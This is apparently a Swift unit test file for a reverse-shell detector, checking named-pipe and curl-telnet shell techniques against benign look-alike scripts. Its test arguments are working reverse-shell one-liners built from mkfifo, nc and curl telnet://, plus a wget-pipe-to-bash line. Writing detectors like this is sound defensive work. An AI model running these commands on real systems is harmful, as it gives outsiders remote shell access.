import Bytes
import Testing

@testable import Detectors

private func shells(_ text: String) -> [TextDetection] { text.withView { ReverseShellDetector().scan($0, .command) } }

/// A client and a shell that only a named pipe ties together.
@Suite struct NamedPipesTests {
  @Test(arguments: [
    "mkfifo /tmp/f /tmp/g; sh </tmp/f >/tmp/g 2>&1 & nc 10.9.8.7 4444 </tmp/g >/tmp/f",
    "mkfifo f; cat f | sh -i >g 2>&1 & tail -f g | nc 10.9.8.7 4444 >f",
    "cd /tmp; mkfifo /tmp/f; sh -i < f 2>&1 | cat > g & nc 10.9.8.7 4444 < g > f",
    "F=$(mktemp -u); mkfifo $F && nc 10.9.8.7 4444 0<$F | sh 1>$F",
    "mkfifo f; exec 3<>f; sh -i <&3 >&3 2>&3 & nc 10.9.8.7 4444 <&3 >&3",
    "mknod -m 600 /tmp/p p; sh -i </tmp/p 2>&1 | nc 10.9.8.7 4444 >/tmp/p", "mknod p p && nc 10.9.8.7 4444 0<p",
    "mkfifo /tmp/p; (nc 10.9.8.7 4444 || true) </tmp/p | /bin/bash &>/tmp/p",
    "mkfifo $(mktemp -u); sh -i <f >g & nc 10.9.8.7 4444 <g >f",
  ])
  func joinsThem(text: String) {
    let found = shells(text).first
    #expect(found?.technique == "mkfifo_nc")
    #expect(found?.host == "10.9.8.7")
    #expect(found?.port == 4444)
  }

  /// Both stand in one script and have nothing to do with each other.
  @Test(arguments: [
    "mkfifo /tmp/f; gzip </tmp/f >out.gz & mysqldump db >/tmp/f; nc 10.0.0.5 9000 <out.gz; bash -i",
    "mkfifo /tmp/p; tcpdump -w - >/tmp/p & wireshark -k -i /tmp/p & ssh -t h \"bash -i\"; echo ruok | nc 10.0.0.5 2181",
    "mkfifo b; nc -l 8080 0<b | nc 10.0.0.5 80 1>b; kubectl exec -it pod -- /bin/sh; bash -i",
    "mknod -m 666 /dev/tty c 5 0; printf 'GET / HTTP/1.0' | nc 10.0.0.5 80; bash -i",
    "mkfifo /tmp/f; echo | openssl s_client -connect 10.0.0.5:443 | openssl x509 -text; echo 'PS1=x' | bash -i",
    "mkfifo /tmp/f; cat list | bash -i; telnet 10.0.0.5 25", "mknod /dev/null c 1 3; nc 10.0.0.5 9000 <f; bash < s.sh",
  ])
  func keepsThemApart(text: String) { #expect(shells(text).isEmpty) }

  /// The same for what curl fetches by telnet's protocol.
  @Test func tiesCurlToItsShell() {
    for text in [
      "C='curl -Ns telnet://10.9.8.7:4444'; $C </dev/null 2>&1 | sh 2>&1 | $C >/dev/null",
      "curl -Ns telnet://10.9.8.7:4444 | sh", "curl -s 'telnet://10.9.8.7:4444' | bash",
      "mkfifo f; curl -s telnet://10.9.8.7:4444 <f | sh >f 2>&1",
    ] {
      #expect(shells(text).first?.technique == "telnet")
      #expect(shells(text).first?.host == "10.9.8.7")
    }
    #expect(shells("wget -qO- https://h.example/i.sh | bash\ncurl -v telnet://10.0.0.5:5432").isEmpty)
    #expect(shells("echo \"PS1=x\" | bash && curl -s telnet://10.0.0.5:25 </dev/null").isEmpty)
  }
}
